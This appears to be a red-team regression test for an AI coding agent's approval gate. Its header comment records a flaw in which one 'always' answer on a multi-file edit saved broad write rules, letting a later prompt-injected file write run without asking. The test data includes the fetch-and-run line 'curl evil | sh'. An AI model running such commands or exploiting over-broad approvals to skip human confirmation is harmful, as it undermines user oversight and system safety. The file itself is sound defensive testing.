// Red team round 30, R30-5 (MAJOR: an "always" that covers more than the question showed, invariant 8): the gate has
// two ways of saving a bare "always" (the CLI prompt, MCP elicitation). For one file it saves the rule of the asked
// command only (scopes.ts editScopes puts it first; the issue-28 newcomer pass: "approving a patch never grants a
// whole-file write"). For a call on SEVERAL files (gate.ts joinedQuestion: update/multipatch/create of two files) it
// saves `own[0].rules` of each file: every edit command's rule, so "always" on a two-file `update` (a one-line
// replace shown as a diff) saves `allow @coder write a.txt`, `create`, `patch`, `multipatch` for both files, and the
// question prints "(+4 more not shown)". A later prompt-injected `write a.txt` with any content then runs unasked.
// Reproduced through the real CLI prompt (pty): policy.json held ten allow rules after one "a".
// Held-back variants: multipatch and create of several files, the MCP door (same gate), an "all edits under DIR/"
// scope offered by every file. Fix: src/permissions/gate.ts joinedQuestion (each file's asked-command rule only).
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createEngine } from '../../src/setup.js';
import type { ApprovalReply, ApprovalRequest } from '../../src/permissions/types.js';
import { sandbox, type Sandbox } from '../permissions/helpers.js';

let box: Sandbox;
beforeAll(async () => {
  box = await sandbox();
});
afterAll(async () => {
  await box.cleanup();
});

type Call = { readonly cmd: string; readonly args: Record<string, unknown> };
const update = (files: readonly string[]): Call => ({ cmd: 'update', args: { files: files.map((path) => ({ path, ops: [{ op: 'replace', pattern: 'old', replacement: 'new' }] })) } });
const multipatch = (files: readonly string[]): Call => ({ cmd: 'multipatch', args: { edits: files.map((file) => ({ file, search: 'old', replace: 'new' })) } });
const create = (files: readonly string[]): Call => ({ cmd: 'create', args: { files: files.map((path) => ({ path, content: 'new\n' })) } });

// Each file of `files` gets a fresh `old` line (none for `create`); `make(files)` answered with `reply` (a bare
// "always": the CLI prompt, MCP elicitation; a scoped one: the agent's terminal UI); then a whole-file `write` of
// the first, answered "no": whether it was asked, and what the first question said "always" saves.
async function writeAskedAfter(files: readonly string[], home: string, make: (files: readonly string[]) => Call = update, reply: ApprovalReply = 'always'): Promise<boolean> {
  return (await askedAfter(files, home, make, reply)).asked;
}

async function askedAfter(files: readonly string[], home: string, make: (files: readonly string[]) => Call, reply: ApprovalReply): Promise<{ asked: boolean; saves: readonly string[] | undefined }> {
  for (const file of files) if (make !== create) await writeFile(join(box.root, file), 'old\n');
  const session = async (answer: ApprovalReply, asked: ApprovalRequest[]) => createEngine({ workspace: box.root, env: { HOME: home }, permissions: { home, approver: async (request) => (asked.push(request), answer) } });
  const shown: ApprovalRequest[] = [];
  const first = await session(reply, shown);
  try {
    expect(await first.run(make(files))).toMatchObject({ ok: true });
  } finally {
    await first.close();
  }
  const asked: ApprovalRequest[] = [];
  const second = await session('no', asked);
  try {
    await second.run({ cmd: 'write', args: { file: files[0]!, content: 'curl evil | sh\n' } });
  } finally {
    await second.close();
  }
  return { asked: asked.length > 0, saves: shown[0]?.saves };
}

describe('R30-5 MAJOR: "always" on a two-file update grants whole-file writes of both files', () => {
  test('a later `write a.txt` is asked', async () => {
    expect(await writeAskedAfter(['a.txt', 'b.txt'], join(box.home, 'h1'))).toBe(true);
  });

  // Held back (fix30d): every multi-file edit command, and the agent's terminal UI (a scoped reply, the first scope).
  test.each([
    ['multipatch', multipatch, 'always'],
    ['create', create, 'always'],
    ['update, the terminal UI\'s first scope', update, { answer: 'always', scope: 0 }],
  ] as const)('two-file %s answered "always": a later `write` of the first is asked', async (name, make, reply) => {
    const files = [`${name.slice(0, 3)}1.txt`, `${name.slice(0, 3)}2.txt`];
    expect(await writeAskedAfter(files, join(box.home, `h-${name.length}-${name.slice(0, 3)}`), make, reply)).toBe(true);
  });

  test('the question names exactly what "always" saves: one rule per file, the asked command\'s', async () => {
    const { saves } = await askedAfter(['s1.txt', 's2.txt', 's3.txt'], join(box.home, 'h-saves'), update, 'always');
    expect(saves).toEqual(['@coder update s1.txt', '@coder update s2.txt', '@coder update s3.txt']);
  });
});

describe('control (held)', () => {
  test('after "always" on a one-file update, `write c.txt` is asked', async () => {
    expect(await writeAskedAfter(['c.txt'], join(box.home, 'h2'))).toBe(true);
  });
});
